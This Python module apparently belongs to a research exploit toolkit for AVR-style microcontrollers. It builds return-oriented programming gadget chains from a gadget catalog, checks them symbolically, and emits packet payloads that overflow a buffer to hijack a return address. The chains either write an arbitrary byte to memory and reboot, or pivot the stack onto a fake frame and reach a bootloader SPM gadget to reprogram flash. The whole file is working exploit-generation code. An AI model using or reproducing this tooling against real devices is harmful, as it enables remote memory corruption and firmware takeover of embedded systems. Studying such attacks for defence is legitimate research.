"""Chain synthesis for the injection and reprogramming meta-gadgets.

Candidate chains are built from gadget roles (loader, bridge, store, pivot)
and then checked by composing the gadgets' effect summaries: each popped byte
is tracked as a payload offset, so a chain is accepted only if the final store
address, the stored value and the new stack pointer all come from the payload.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Any, Iterable, Sequence

from .errors import ConstraintUnsatisfiable, NoChainFound, PayloadTooLong
from .fakestack import FRAME_POP_ORDER
from .gadgets import IO_SPH, IO_SPL, Gadget, GadgetCatalog, Store, Sym, init

RAM_END = 0x1100


class GoalKind(enum.Enum):
    WRITE_BYTE = "WriteByte"
    REPROGRAM = "Reprogram"


@dataclass(frozen=True)
class ChainGoal:
    kind: GoalKind

    @classmethod
    def write_byte(cls) -> "ChainGoal":
        return cls(GoalKind.WRITE_BYTE)

    @classmethod
    def reprogram(cls) -> "ChainGoal":
        return cls(GoalKind.REPROGRAM)

    @property
    def params(self) -> tuple[str, ...]:
        return ("target", "value") if self.kind is GoalKind.WRITE_BYTE else ("fake_sp",)


class SlotKind(enum.Enum):
    GADGET_ADDR_LOW = "GadgetAddrLow"
    GADGET_ADDR_HIGH = "GadgetAddrHigh"
    PARAM = "Param"
    PADDING = "Padding"
    REBOOT_VECTOR = "RebootVector"


@dataclass(frozen=True)
class PayloadSlot:
    offset: int
    kind: SlotKind
    # gadget entry for address slots, parameter byte name (e.g. "target.lo") for params
    ref: int | str | None = None

    def describe(self) -> str:
        if self.kind in (SlotKind.GADGET_ADDR_LOW, SlotKind.GADGET_ADDR_HIGH):
            return f"{self.kind.value}({self.ref:#06x})"
        if self.kind is SlotKind.PARAM:
            return f"Param({self.ref})"
        return self.kind.value


@dataclass(frozen=True)
class SynthesisConstraints:
    max_packet_payload: int = 28
    buffer_start: int = 0x105B
    ram_end: int = RAM_END
    padding_prefix: int = 4

    def __post_init__(self) -> None:
        if self.max_packet_payload < self.padding_prefix + 2:
            raise ValueError("max_packet_payload must leave room for the return address")

    def admits(self, payload_length: int) -> bool:
        total = self.padding_prefix + payload_length
        return total <= self.max_packet_payload and self.buffer_start + total <= self.ram_end


@dataclass(frozen=True)
class GadgetChain:
    goal: ChainGoal
    gadgets: tuple[Gadget, ...]
    layout: tuple[PayloadSlot, ...]
    strategy: str
    # store displacement for WriteByte chains (address = Z + disp)
    displacement: int = 0
    spm_gadget: Gadget | None = None

    @property
    def payload_length(self) -> int:
        return len(self.layout)

    @property
    def entries(self) -> tuple[int, ...]:
        return tuple(g.entry for g in self.gadgets)

    def to_json(self, payload: bytes | None = None) -> dict[str, Any]:
        out: dict[str, Any] = {
            "goal": self.goal.kind.value,
            "strategy": self.strategy,
            "gadgets": [f"{e:#06x}" for e in self.entries],
            "payload_length": self.payload_length,
            "layout": [{"offset": s.offset, "slot": s.describe()} for s in self.layout],
        }
        if self.spm_gadget is not None:
            out["spm_gadget"] = f"{self.spm_gadget.entry:#06x}"
        if payload is not None:
            out["payload_hex"] = payload.hex()
        return out


# ---------------------------------------------------------------------------
# symbolic composition


@dataclass
class _Composed:
    regs: list[Sym]
    stores: list[Store] = field(default_factory=list)
    sp_sources: dict[int, Sym] = field(default_factory=dict)
    # payload offset of each gadget's first pop
    pop_base: list[int] = field(default_factory=list)
    spm: bool = False
    # offset just past the last address read by the final terminator
    end: int = 0


def _compose(gadgets: Sequence[Gadget]) -> _Composed | None:
    """Thread register contents through the chain; payload offsets replace slots.

    Payload offset 0 is the return-address overwrite that enters the first
    gadget. Only the last gadget may move SP; its post-pivot pops and
    terminator read the new stack, not the payload.
    """
    c = _Composed([init(r) for r in range(32)])
    off = 2
    for i, g in enumerate(gadgets):
        eff = g.effects
        if eff is None:
            return None
        last = i == len(gadgets) - 1
        if eff.sp_writes and not last:
            return None

        def sub(s: Sym, base: int = off) -> Sym:
            if s.kind == "init":
                return c.regs[s.value]
            if s.kind == "slot":
                return Sym("slot", base + s.value)
            return s

        c.pop_base.append(off)
        c.stores.extend(
            Store(st.base, st.disp, st.data_reg, sub(st.data), sub(st.addr_lo), sub(st.addr_hi)) for st in eff.stores
        )
        for io, s in eff.sp_sources:
            c.sp_sources[io] = sub(s)
        c.spm |= eff.spm_present
        c.regs = [sub(s) for s in eff.final]
        pops_in_payload = eff.pop_count if eff.pivot_after_pops is None else eff.pivot_after_pops
        off += pops_in_payload + (2 if eff.pivot_after_pops is None else 0)
    c.end = off
    return c


def _slot(s: Sym) -> int | None:
    return s.value if s.kind == "slot" else None


def _layout(gadgets: Sequence[Gadget], c: _Composed, params: dict[int, str], reboot: bool) -> tuple[PayloadSlot, ...]:
    slots: dict[int, PayloadSlot] = {
        0: PayloadSlot(0, SlotKind.GADGET_ADDR_LOW, gadgets[0].entry),
        1: PayloadSlot(1, SlotKind.GADGET_ADDR_HIGH, gadgets[0].entry),
    }
    for i, g in enumerate(gadgets[1:]):
        # the previous gadget's terminator reads this gadget's address
        at = c.pop_base[i + 1] - 2
        slots[at] = PayloadSlot(at, SlotKind.GADGET_ADDR_LOW, g.entry)
        slots[at + 1] = PayloadSlot(at + 1, SlotKind.GADGET_ADDR_HIGH, g.entry)
    if reboot:
        slots[c.end - 2] = PayloadSlot(c.end - 2, SlotKind.REBOOT_VECTOR)
        slots[c.end - 1] = PayloadSlot(c.end - 1, SlotKind.REBOOT_VECTOR)
    for off, name in params.items():
        slots[off] = PayloadSlot(off, SlotKind.PARAM, name)
    end = c.end
    return tuple(slots.get(i, PayloadSlot(i, SlotKind.PADDING)) for i in range(end))


def _check_write_byte(gadgets: Sequence[Gadget]) -> GadgetChain | None:
    if any(g.effects is None or g.effects.spm_present or g.effects.sp_writes for g in gadgets):
        return None
    c = _compose(gadgets)
    if c is None or len(c.stores) != 1:
        return None
    st = c.stores[0]
    if st.base != "Z":
        return None
    lo, hi, val = _slot(st.addr_lo), _slot(st.addr_hi), _slot(st.data)
    if lo is None or hi is None or val is None or len({lo, hi, val}) != 3:
        return None
    layout = _layout(gadgets, c, {lo: "target.lo", hi: "target.hi", val: "value"}, reboot=True)
    strategy = "ideal" if len(gadgets) == 1 else "loader-store" if len(gadgets) == 2 else "loader-bridge-store"
    return GadgetChain(ChainGoal.write_byte(), tuple(gadgets), layout, strategy, displacement=st.disp)


def _check_reprogram(gadgets: Sequence[Gadget], spm_gadget: Gadget) -> GadgetChain | None:
    pivot = gadgets[-1]
    eff = pivot.effects
    if eff is None or eff.stores or eff.spm_present or {IO_SPL, IO_SPH} - eff.sp_writes:
        return None
    if eff.pivot_after_pops != 0 or tuple(r for r, _ in eff.pops) != FRAME_POP_ORDER:
        return None
    if any(g.effects is None or g.effects.stores or g.effects.spm_present for g in gadgets[:-1]):
        return None
    c = _compose(gadgets)
    if c is None:
        return None
    lo, hi = _slot(c.sp_sources.get(IO_SPL, Sym("unk"))), _slot(c.sp_sources.get(IO_SPH, Sym("unk")))
    if lo is None or hi is None or lo == hi:
        return None
    layout = _layout(gadgets, c, {lo: "fake_sp.lo", hi: "fake_sp.hi"}, reboot=False)
    return GadgetChain(ChainGoal.reprogram(), tuple(gadgets), layout, "pivot-spm", spm_gadget=spm_gadget)


# ---------------------------------------------------------------------------
# candidate roles


def _pure(g: Gadget) -> bool:
    e = g.effects
    return e is not None and not e.stores and not e.sp_writes and not e.spm_present


def _z_stores(catalog: Iterable[Gadget]) -> list[Gadget]:
    out = []
    for g in catalog:
        e = g.effects
        if e is None or e.sp_writes or e.spm_present or len(e.stores) != 1:
            continue
        st = e.stores[0]
        if st.base == "Z" and st.addr_lo == init(30) and st.addr_hi == init(31) and st.data == init(st.data_reg):
            out.append(g)
    return out


def _bridges(catalog: Iterable[Gadget]) -> list[tuple[Gadget, int]]:
    """Gadgets copying a register pair r(2k):r(2k+1) into Z."""
    out = []
    for g in catalog:
        if not _pure(g):
            continue
        lo, hi = g.effects.final[30], g.effects.final[31]  # type: ignore[union-attr]
        if lo.kind == "init" and lo.value % 2 == 0 and lo.value != 30 and hi == init(lo.value + 1):
            out.append((g, lo.value))
    return out


def _loads(g: Gadget, regs: Iterable[int]) -> bool:
    fin = g.effects.final  # type: ignore[union-attr]
    return all(fin[r].kind == "slot" for r in regs)


def _write_byte_candidates(catalog: GadgetCatalog) -> Iterable[list[Gadget]]:
    modeled = catalog.modeled()
    pure = [g for g in modeled if _pure(g)]
    stores = _z_stores(modeled)
    # (a) one gadget that loads Z and the data register and stores
    for g in modeled:
        e = g.effects
        if e is not None and len(e.stores) == 1 and e.stores[0].base == "Z" and not e.sp_writes:
            yield [g]
    bridges = _bridges(modeled)
    for s in stores:
        d = s.effects.stores[0].data_reg  # type: ignore[union-attr]
        # loader fills Z directly
        for l in pure:
            if _loads(l, (30, 31, d)):
                yield [l, s]
        # (b) loader fills a pair, a movw gadget moves it into Z
        for b, pair in bridges:
            if d in (30, 31) or b.effects.final[d] != init(d):  # type: ignore[union-attr]
                continue
            for l in pure:
                if _loads(l, (pair, pair + 1, d)):
                    yield [l, b, s]


def _reprogram_candidates(catalog: GadgetCatalog) -> Iterable[list[Gadget]]:
    modeled = catalog.modeled()
    pivots = [
        g
        for g in modeled
        if g.effects is not None and {IO_SPL, IO_SPH} <= g.effects.sp_writes and g.effects.pivot_after_pops == 0
    ]
    for p in pivots:
        srcs = {io: s for io, s in p.effects.sp_sources}  # type: ignore[union-attr]
        need = [s.value for s in srcs.values() if s.kind == "init"]
        for l in modeled:
            if _pure(l) and _loads(l, need):
                yield [l, p]


def _spm_gadget(catalog: GadgetCatalog) -> Gadget | None:
    for g in catalog:
        if g.entry >= catalog.bootloader_start and g.effects is not None and g.effects.spm_present:
            return g
    return None


def synthesize_chain(
    catalog: GadgetCatalog, goal: ChainGoal, constraints: SynthesisConstraints | None = None
) -> list[GadgetChain]:
    """All chains realizing ``goal``, shortest payload first.

    Equal lengths are ordered by ascending gadget entry addresses.
    """
    constraints = constraints or SynthesisConstraints()
    found: dict[tuple[int, ...], GadgetChain] = {}
    if goal.kind is GoalKind.WRITE_BYTE:
        for cand in _write_byte_candidates(catalog):
            key = tuple(g.entry for g in cand)
            if key not in found and (chain := _check_write_byte(cand)) is not None:
                found[key] = chain
    else:
        spm = _spm_gadget(catalog)
        if spm is not None:
            for cand in _reprogram_candidates(catalog):
                key = tuple(g.entry for g in cand)
                if key not in found and (chain := _check_reprogram(cand, spm)) is not None:
                    found[key] = chain
    if not found:
        raise NoChainFound(f"catalog of {len(catalog)} gadgets cannot realize {goal.kind.value}")
    ok = [c for c in found.values() if constraints.admits(c.payload_length)]
    if not ok:
        shortest = min(c.payload_length for c in found.values())
        raise ConstraintUnsatisfiable(
            f"shortest {goal.kind.value} chain needs {constraints.padding_prefix + shortest} bytes, "
            f"limit is {constraints.max_packet_payload}"
        )
    return sorted(ok, key=lambda c: (c.payload_length, c.entries))


# ---------------------------------------------------------------------------
# emission


def _emit(chain: GadgetChain, params: dict[str, int], constraints: SynthesisConstraints) -> bytes:
    total = constraints.padding_prefix + chain.payload_length
    if total > constraints.max_packet_payload:
        raise PayloadTooLong(f"payload needs {total} bytes, limit is {constraints.max_packet_payload}")
    out = bytearray(range(constraints.padding_prefix))
    for s in chain.layout:
        if s.kind is SlotKind.GADGET_ADDR_LOW:
            out.append(int(s.ref) & 0xFF)  # type: ignore[arg-type]
        elif s.kind is SlotKind.GADGET_ADDR_HIGH:
            out.append(int(s.ref) >> 8 & 0xFF)  # type: ignore[arg-type]
        elif s.kind is SlotKind.PARAM:
            out.append(params[str(s.ref)])
        else:
            out.append(0)
    return bytes(out)


def emit_injection_payload(
    chain: GadgetChain, target: int, value: int, constraints: SynthesisConstraints | None = None
) -> bytes:
    """Packet payload that writes ``value`` to data address ``target`` and reboots."""
    if chain.goal.kind is not GoalKind.WRITE_BYTE:
        raise ValueError("chain does not realize WriteByte")
    if not 0 <= target < RAM_END:
        raise ValueError(f"target {target:#x} outside data memory")
    if not 0 <= value <= 0xFF:
        raise ValueError(f"value {value} is not a byte")
    z = (target - chain.displacement) & 0xFFFF
    params = {"target.lo": z & 0xFF, "target.hi": z >> 8, "value": value}
    return _emit(chain, params, constraints or SynthesisConstraints())


def emit_reprogramming_payload(
    chain: GadgetChain, fake_sp: int, constraints: SynthesisConstraints | None = None
) -> bytes:
    """Packet payload that loads ``fake_sp`` into SP and enters the pivot.

    ``fake_sp`` is written to SP as is; pops pre-increment, so a fake stack at
    FSP needs ``fake_sp = FSP - 1``.
    """
    if chain.goal.kind is not GoalKind.REPROGRAM:
        raise ValueError("chain does not realize Reprogram")
    params = {"fake_sp.lo": fake_sp & 0xFF, "fake_sp.hi": fake_sp >> 8 & 0xFF}
    return _emit(chain, params, constraints or SynthesisConstraints())
